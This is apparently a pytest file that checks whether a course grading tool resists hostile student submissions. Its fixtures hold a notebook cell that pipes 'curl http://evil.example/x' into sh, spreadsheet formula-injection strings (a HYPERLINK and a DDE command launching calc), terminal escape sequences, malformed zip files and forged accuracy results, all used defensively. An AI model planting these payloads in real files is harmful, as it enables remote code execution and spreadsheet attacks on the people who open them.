"""Grading integrity: a class of five honest(ish) demo submissions graded alone, then with one hostile zip of each kind
added. No hostile zip widens its own tolerance, adds a column, is ranked from its own quick subset or test set, injects a
formula, crashes the class, or reaches the grader's terminal; every honest group's row is the same in both gradings."""

from __future__ import annotations

import json
import math
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from datafiles import write_idx_dataset
from hostile_zips import lying_directory_zip, nul_name_zip, plain_zip
from submissions import edit_json, members_of
from workbook.conftest import LibreOffice

from reportgen.cli import main
from reportgen.spec import load_spec
from reportgen.submission.gradebook import HEADER_ROW, SHEET
from reportgen.submission.grade import graded_numbers
from reportgen.submission.verify import verify_submission

ROOT = Path(__file__).resolve().parents[2]
REFERENCE = ROOT / "experiments" / "demo.yaml"
HONEST = ("ada", "bob", "cyd", "dan", "eve")  # dan forged cnn_bn's test accuracy, eve dropped cnn_bn: as test_grade's class
HYPERLINK = '=HYPERLINK("http://evil.example/","click me")'
DDE = "=cmd|' /C calc'!A0"


def _yaml(members: dict[str, bytes], old: str, new: str) -> None:
    text = members["experiments/demo.yaml"].decode()
    assert old in text, old
    members["experiments/demo.yaml"] = text.replace(old, new, 1).encode()


def as_group(group: str, yaml_group: str | None = None):
    """The demo submission as another group's: its experiment, manifest and notebook say so (as `submit` would write)."""
    def edit(members: dict[str, bytes]) -> None:
        written = yaml_group if yaml_group is not None else f'"{group}"'
        _yaml(members, 'group: "demo"', f"group: {written}")
        shown = load_group(members)
        edit_json(members, "manifest.json", lambda manifest: manifest["experiment"].update(group=shown))
        notebook = json.loads(members["reproduce.ipynb"])
        intro = notebook["cells"][0]
        intro["source"] = "".join(intro["source"]).replace("; group demo", f"; group {shown}")
        members["reproduce.ipynb"] = json.dumps(notebook, indent=1).encode()
    return edit


def load_group(members: dict[str, bytes]) -> str:
    import yaml

    return yaml.safe_load(members["experiments/demo.yaml"])["group"]


def then(*edits):
    def edit(members: dict[str, bytes]) -> None:
        for one in edits:
            one(members)
    return edit


def results(change):
    return lambda members: edit_json(members, "results.json", change)


def _forge_cnn(value: dict) -> None:
    value["runs"]["cnn_bn"]["metrics"]["test_accuracy"] += 0.1


def _drop_cnn_bn(value: dict) -> None:
    del value["runs"]["cnn_bn"]


def _forge_std(value: dict) -> None:
    """A forged accuracy for a run trained once, and one for a replicated run, each with a huge claimed spread."""
    cnn = value["runs"]["cnn"]
    cnn["metrics"]["test_accuracy"] += 0.3
    cnn["std"] = {"test_accuracy": 1.0, "train_accuracy": 1.0}
    mlp = value["runs"]["mlp[units=128]"]
    mlp["metrics"]["test_accuracy"] += 0.3
    mlp["std"] = {"test_accuracy": 1.0, "train_accuracy": 1.0}


def _nan(value: dict) -> None:
    value["runs"]["cnn"]["metrics"]["test_accuracy"] = float("nan")
    value["runs"]["dense1"]["metrics"]["train_accuracy"] = float("inf")


def _notebook(members: dict[str, bytes]) -> None:
    notebook = json.loads(members["reproduce.ipynb"])
    notebook["cells"][1]["source"] = "import os\nos.system('curl http://evil.example/x | sh')\n"
    members["reproduce.ipynb"] = json.dumps(notebook).encode()


# name: (edit of the demo submission, rehash the manifest) or a function writing a raw hostile zip.
HONEST_EDITS = {
    "ada": as_group("ada"), "bob": as_group("bob"), "cyd": as_group("cyd"),
    "dan": then(as_group("dan"), results(_forge_cnn)), "eve": then(as_group("eve"), results(_drop_cnn_bn)),
}
HOSTILE_EDITS = {
    "forged-std": then(as_group("forger"), results(_forge_std)),
    # A run named like a sweep variant of a graded run: listed for its group, a column for nobody.
    "extra-run": then(as_group("extender"), lambda m: _yaml(m, "model[0].units: [32, 128]", "model[0].units: [32, 128, 64]")),
    # Its own tiny quick subset: the rebuild would reproduce it, and it would rank first.
    "own-quick": then(as_group("quickie"), lambda m: _yaml(m, "quick: {train: 400, test: 200, epochs: 2}",
                                                             "quick: {train: 40, test: 20, epochs: 2}")),
    # Tested on another dataset the grader has: not the test set the reference grades.
    "other-test-set": then(as_group("switcher"), lambda m: _yaml(m, "digits: {source: digits}",
                                                                 "digits: {source: idx, path: tiny-digits}")),
    "nan": then(as_group("nan"), results(_nan)),
    "notebook": then(as_group("notebook"), _notebook),
    f"{HYPERLINK.replace('/', '_')}": as_group(HYPERLINK, yaml_group=json.dumps(HYPERLINK)),
    "dde": then(as_group(DDE, yaml_group=json.dumps(DDE)),
                lambda m: _yaml(m, 'authors: ["reportgen"]', f'authors: [{json.dumps(DDE)}, "@SUM(1+1)"]')),
    "bell": as_group("bell", yaml_group='"bell\\a\\e]0;pwned\\a\\e[2J"'),
}
RAW = {
    "long-path": lambda p: plain_zip(p, {"manifest.json": b"{}", "a/" * 2497 + "bcdefg": b"x"}),
    "nul-name": nul_name_zip,
    "lying-end-record": lying_directory_zip,
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory, make_submission, demo_cache: Path):
    """{'alone': the honest class graded, 'with': the same with every hostile zip added}: each (grades.json, the
    workbook's path, stderr), graded at the reference's quick profile (the demo submission is a quick build)."""
    root = tmp_path_factory.mktemp("integrity")
    data = root / "data"
    write_idx_dataset(data / "tiny-digits", 40, 20, shape=(8, 8))  # a dataset of the grader's that is not the reference's
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("REPORTGEN_DATA_PATH", str(data))
        alone, both = root / "alone", root / "with"
        for name, edit in HONEST_EDITS.items():
            zip_path = make_submission(alone, edit=edit, rehash=True, name=f"{name}.zip")
            both.mkdir(exist_ok=True)
            shutil.copy(zip_path, both / zip_path.name)
        for name, edit in HOSTILE_EDITS.items():
            make_submission(both, edit=edit, rehash=True, name=f"{name}.zip")
        for name, write in RAW.items():
            write(both / f"{name}.zip")
        _list_missing(both / "dde.zip", [DDE, HYPERLINK])  # file names in the gradebook too: 'Files missing'
        out = {}
        for label, folder in (("alone", alone), ("with", both)):
            capture = root / f"{label}.err"
            import contextlib
            import io

            stream = io.StringIO()
            with contextlib.redirect_stderr(stream):
                code = main(["grade", str(folder), "--reference", str(REFERENCE), "--quick", "--out", str(root / f"grades-{label}"),
                             "--cache", str(demo_cache)])
            capture.write_text(stream.getvalue())
            assert code == 0, stream.getvalue()[-2000:]
            grades = json.loads((root / f"grades-{label}" / "grades.json").read_text())
            out[label] = (grades, root / f"grades-{label}" / "grades.xlsx", stream.getvalue())
    return out


def _list_missing(zip_path: Path, names: list[str]) -> None:
    """The manifest lists files of these names that the zip lacks."""
    from reportgen.submission.safezip import write_zip

    members = members_of(zip_path)
    edit_json(members, "manifest.json", lambda manifest: manifest["files"].update({n: "0" * 64 for n in names}))
    write_zip(members, zip_path)


def _group(grades: dict, name: str) -> dict[str, Any]:
    found = [g for g in grades["groups"] if g["group"] == name or g["file"] == name]
    assert len(found) == 1, (name, [g["group"] for g in grades["groups"]])
    return found[0]


def _verify_json(grades: dict, name: str) -> dict[str, Any]:
    return json.loads((Path(_group(grades, name)["folder"]) / "verify.json").read_text())


def _rows(path: Path) -> dict[str, dict[str, Any]]:
    """{group: {header: value}} of grades.xlsx as a viewer shows it (cached values; formulas' texts would name rows)."""
    ws = openpyxl.load_workbook(path, data_only=True)[SHEET]
    columns = [c.value for c in ws[HEADER_ROW]]
    rows = {}
    for r in range(HEADER_ROW + 1, ws.max_row + 1):
        if ws[f"A{r}"].value in (None, "Class"):
            break
        rows[ws[f"A{r}"].value] = dict(zip(columns, (c.value for c in ws[r])))
    return rows


def test_every_honest_row_is_the_same_with_the_hostile_zips(graded) -> None:
    (alone, book_alone, _), (both, book_both, _) = graded["alone"], graded["with"]
    assert len(both["groups"]) == len(HONEST) + len(HOSTILE_EDITS) + len(RAW) and both["complete"]
    assert alone["numbers"] == both["numbers"] == [{"run": r, "metric": m} for r, m in graded_numbers(load_spec(REFERENCE))]
    rows_alone, rows_both = _rows(book_alone), _rows(book_both)
    for name in HONEST:
        assert {k: v for k, v in _group(alone, name).items() if k != "folder"} == \
               {k: v for k, v in _group(both, name).items() if k != "folder"}, name
        assert rows_alone[name] == rows_both[name], name
    assert [(g["group"], g["rank"]) for g in alone["groups"] if g["rank"]] == [("ada", 1), ("bob", 1), ("cyd", 1)]


def test_a_claimed_std_widens_nothing(graded) -> None:
    report = _verify_json(graded["with"][0], "forger")
    numbers = {(v["run"], v["metric"]): v for v in report["numbers"]}
    cnn = numbers["cnn", "test_accuracy"]
    assert cnn["verdict"] == "NOT reproduced" and cnn["std"] is None and cnn["tolerance"] == 0.005  # trained once: no std
    mlp = numbers["mlp[units=128]", "test_accuracy"]
    assert mlp["verdict"] == "NOT reproduced" and mlp["std"] < 0.1 and mlp["tolerance"] == max(2 * mlp["std"], 0.005)
    assert _group(graded["with"][0], "forger")["counts"]["NOT reproduced"] == 2


def test_a_run_a_zip_adds_is_listed_for_it_and_graded_for_nobody(graded) -> None:
    both = graded["with"][0]
    extender = _group(both, "extender")
    assert extender["extra"] == ["mlp[units=64]"] and extender["passed"] == 10 and extender["rank"] == 1
    assert all(n["run"] != "mlp[units=64]" for n in both["numbers"])
    assert _rows(graded["with"][1])["extender"]["Runs not graded"] == "mlp[units=64]"


def test_an_own_quick_subset_or_test_set_is_not_ranked(graded) -> None:
    both = graded["with"][0]
    quickie = _group(both, "quickie")
    assert quickie["rank"] is None and quickie["refused"].startswith(
        "refused: its quick profile (40 training and 20 test images, 2 epochs) is not the reference's (400 training and 200")
    switcher = _group(both, "switcher")
    assert switcher["rank"] is None and {n["verdict"] for n in switcher["numbers"] if n["run"] in ("cnn", "cnn_bn")} == {"NOT reproduced"}
    assert {n["verdict"] for n in switcher["numbers"] if n["run"] == "dense1"} == {"reproduced"}  # digits_flat is the reference's
    report = _verify_json(both, "switcher")
    assert set(report["differs"]) == {"cnn", "cnn_bn"} and "source idx instead of digits" in report["differs"]["cnn"]
    assert any(p.startswith("test set differs: cnn (its test set is not the reference's") for p in switcher["problems"])


def test_a_quick_build_is_refused_at_the_full_profile(demo_submission: Path, demo_cache: Path, tmp_path: Path) -> None:
    report = verify_submission(demo_submission, tmp_path / "v", reference=REFERENCE, cache=demo_cache)
    assert report.refused.startswith("refused: a quick build; the reference is graded at its full profile") and not report.numbers


def test_nan_is_null_in_strict_json_with_why(graded) -> None:
    folder = Path(_group(graded["with"][0], "nan")["folder"])

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} in verify.json")

    report = json.loads((folder / "verify.json").read_text(), parse_constant=refuse)
    numbers = {(v["run"], v["metric"]): v for v in report["numbers"]}
    assert numbers["cnn", "test_accuracy"]["reported"] is None and numbers["cnn", "test_accuracy"]["verdict"] == "NOT reproduced"
    assert numbers["cnn", "test_accuracy"]["note"] == "the reported value is not a finite number (nan)"
    assert numbers["dense1", "train_accuracy"]["note"] == "the reported value is not a finite number (inf)"
    grades_json = (Path(graded["with"][1]).parent / "grades.json").read_text()
    json.loads(grades_json, parse_constant=refuse)


def test_a_substituted_notebook_is_tampered(graded) -> None:
    report = _verify_json(graded["with"][0], "notebook")
    assert report["files"]["tampered"] == ["reproduce.ipynb"] and "reproduce.ipynb" not in report["files"]["ok"]
    assert _group(graded["with"][0], "notebook")["rank"] is None
    honest = _verify_json(graded["with"][0], "ada")
    assert "reproduce.ipynb" in honest["files"]["ok"]  # the generated one, for another group, is not


def test_student_strings_are_text_cells_and_stay_text_in_libreoffice(graded, libreoffice: LibreOffice) -> None:
    grades, book, _ = graded["with"]
    formulas = set(grades["workbook"]["formulas"])  # the gradebook's own formulas: the only formula cells
    ws = openpyxl.load_workbook(book)[SHEET]
    found = {f"{SHEET}!{c.coordinate}" for row in ws.iter_rows() for c in row if c.data_type == "f"}
    assert found == formulas
    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (HYPERLINK, f"{DDE}, @SUM(1+1)", f"{HYPERLINK.replace('/', '_')}.zip", ", ".join(sorted([DDE, HYPERLINK]))):
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    (recalculated,) = libreoffice.recalculate([book])
    rows = _rows(recalculated)
    assert HYPERLINK in rows and rows[DDE]["Authors"] == f"{DDE}, @SUM(1+1)"
    assert rows[DDE]["Files missing"] == ", ".join(sorted([DDE, HYPERLINK]))
    assert rows[HYPERLINK]["Submission"] == f"{HYPERLINK.replace('/', '_')}.zip"


def test_control_characters_are_escaped_in_the_gradebook_and_the_terminal(graded) -> None:
    grades, book, err = graded["with"]
    shown = "bell\\x07\\x1b]0;pwned\\x07\\x1b[2J"
    assert _group(grades, shown)["rank"] == 1 and shown in _rows(book)
    assert "\x1b" not in err and "\x07" not in err and f"group {shown}: 10 reproduced" in err


def test_refused_zips_are_rows_and_the_class_goes_on(graded) -> None:
    grades = graded["with"][0]
    assert "has a name of 5,000 bytes" in _group(grades, "long-path.zip")["refused"]
    assert "has a NUL byte in its name" in _group(grades, "nul-name.zip")["refused"]
    assert "its central directory claims" in _group(grades, "lying-end-record.zip")["refused"]
    assert all(math.isfinite(g["score"]) for g in grades["groups"])
